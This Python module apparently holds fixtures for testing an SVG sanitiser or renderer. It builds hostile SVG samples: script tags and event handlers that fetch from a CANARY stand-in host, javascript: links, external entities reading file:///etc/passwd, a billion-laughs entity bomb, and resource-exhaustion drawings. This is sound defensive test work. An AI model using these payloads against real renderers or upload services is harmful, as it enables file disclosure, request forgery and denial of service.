"""Drawings that mean harm. CANARY stands for an address that nobody may ever call."""

from collections.abc import Callable

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inside: str, *, attributes: str = 'width="100" height="100"', prolog: str = "") -> str:
    return f"{prolog}<svg {NAMESPACES} {attributes}>{inside}</svg>"


def chained(element: str, attribute: str, each: int, levels: int) -> str:
    """Every level draws the next one `each` times."""
    body = [
        f'<{element} id="a{level}" width="9" height="9">'
        + f'<rect {attribute.format(f"a{level + 1}")} width="9" height="9"/>' * each
        + f"</{element}>"
        for level in range(levels)
    ]
    return f'{"".join(body)}<rect width="90" height="90" {attribute.format("a0")}/>'


def uses(each: int, levels: int) -> str:
    body = [
        f'<g id="a{level}">' + f'<use xlink:href="#a{level + 1}"/>' * each + "</g>" for level in range(levels)
    ]
    return f'{"".join(body)}<rect id="a{levels}" width="9" height="9"/>'


def blurs(number: int, size: str = "") -> str:
    steps = '<feGaussianBlur stdDeviation="1e6"/>' * number
    return f'<filter id="f" {size}>{steps}</filter><rect width="90" height="90" filter="url(#f)"/>'


INNER = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="
GREEN = '<rect width="100" height="100" fill="#0a0"/>'

SHOWN: dict[str, Callable[[], str]] = {
    "a script": lambda: svg(
        f'{GREEN}<script>fetch("CANARY/script")</script><script href="CANARY/script.js"/>'
    ),
    "handlers": lambda: svg(
        f"""{GREEN}<rect onload="fetch('CANARY/on')" onclick="fetch('CANARY/on')" width="1"/>""",
        attributes="""width="100" height="100" onload="fetch('CANARY/load')" """,
    ),
    "a page inside": lambda: svg(
        f'{GREEN}<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="CANARY/frame"/></foreignObject>'
    ),
    "pictures from elsewhere": lambda: svg(
        f'{GREEN}<image href="CANARY/a.png" width="9" height="9"/><image xlink:href="CANARY/b.png"/>'
        '<image href="file:///etc/passwd"/><image href="/etc/passwd"/><filter id="f">'
        '<feImage href="CANARY/c.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "parts from elsewhere": lambda: svg(
        f'{GREEN}<use href="CANARY/a.svg#x"/><rect fill="url(CANARY/b.svg#x)" mask="url(CANARY/c.svg#x)"/>'
        '<linearGradient id="g" xlink:href="CANARY/d.svg#x"/><path marker-start="url(CANARY/e.svg#m)"/>'
    ),
    "a drawing in a drawing": lambda: svg(
        f'{GREEN}<image href="data:image/svg+xml;base64,{INNER}" width="9" height="9"/>'
        f'<use href="data:image/svg+xml;base64,{INNER}#a"/>'
    ),
    "links that run": lambda: svg(
        f'<a href="javascript:fetch(\'CANARY/link\')">{GREEN}</a><a xlink:href="CANARY/link"><rect/></a>'
    ),
    "animations of a link": lambda: svg(
        f'{GREEN}<use id="u" href="#x"/><animate href="#u" attributeName="href" to="CANARY/a.svg#x"/>'
        '<set href="#u" attributeName="xlink:href" to="CANARY/a.svg#x"/>'
    ),
    "sheets from elsewhere": lambda: svg(
        f'<style>@import "CANARY/a.css"; @font-face{{font-family:x;src:url(CANARY/f.woff)}}</style>{GREEN}'
        "<style>rect{background:url(CANARY/b.png);fill:u\\72l(CANARY/c)}</style>"
        "<style>g{cursor:url(CANARY/d),auto}</style>",
        prolog='<?xml-stylesheet href="CANARY/e.css"?>',
    ),
    "styles from elsewhere": lambda: svg(
        f"{GREEN}<rect style=\"fill:url(CANARY/a#x);filter:url('CANARY/b#x');mask:image(CANARY/c)\"/>"
        '<text style="font:9px x;src:url(CANARY/d)" fill="url( CANARY/e )">.</text>'
    ),
    "a document type from elsewhere": lambda: svg(
        GREEN, prolog='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "CANARY/svg11.dtd">'
    ),
    "a huge view": lambda: svg(GREEN, attributes='viewBox="-1e9 -1e9 2e9 2e9" width="100" height="100"'),
    "a blur of a million pixels": lambda: svg(GREEN + blurs(1)),
}
"""These are shown, for what they draw."""

HIDDEN: dict[str, Callable[[], str]] = {
    "5,000 deep": lambda: svg("<g>" * 5000 + "</g>" * 5000),
    "1,000,000 elements": lambda: svg("<g/>" * 1_000_000),
    "one part 10^9 times": lambda: svg(uses(10, 9)),
    "a part that holds itself": lambda: svg('<g id="a"><use href="#a"/></g><use href="#a"/>'),
    "patterns of patterns": lambda: svg(chained("pattern", 'fill="url(#{})"', 8, 8)),
    "masks of masks": lambda: svg(chained("mask", 'mask="url(#{})"', 8, 8)),
    "cuts of cuts": lambda: svg(chained("clipPath", 'clip-path="url(#{})"', 20, 8)),
    "10,000 blurs": lambda: svg(blurs(10_000)),
    "1,000 blurred parts": lambda: svg(blurs(1) + '<rect filter="url(#f)" width="9" height="9"/>' * 1000),
    "10,000 attributes": lambda: svg("<g " + " ".join(f'a{n}="1"' for n in range(10_000)) + "/>"),
    "a drawing that breaks off": lambda: svg(GREEN)[:-6],
    "17 MB of text": lambda: svg(f"<text>{'x' * 17_000_000}</text>"),
}
"""These are kept, and not shown."""


def deadly() -> str:
    """So much work that whoever draws it as large as a page is stopped."""
    return svg(blurs(7, 'width="1e6" height="1e6"'))


LOST: dict[str, Callable[[], str]] = {
    "a billion laughs": lambda: svg(
        "&h;",
        prolog="<!DOCTYPE svg ["
        + '<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
        + "]>",
    ),
    "a long entity, often": lambda: svg(
        "&a;" * 50_000, prolog=f'<!DOCTYPE svg [<!ENTITY a "{"x" * 50_000}">]>'
    ),
    "an entity from elsewhere": lambda: svg("&x;", prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "CANARY/x">]>'),
    "an entity of this machine": lambda: svg(
        "&x;", prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "a parameter entity": lambda: svg("", prolog='<!DOCTYPE svg [<!ENTITY % x SYSTEM "CANARY/p">%x;]>'),
    "100,000,000 megapixels": lambda: svg(GREEN, attributes='width="1e7" height="1e7"'),
    "nothing for 2 MB": lambda: f"<!--{'x' * 2_000_000}-->{svg(GREEN)}",
}
"""These are no drawings that the studio takes from anybody."""
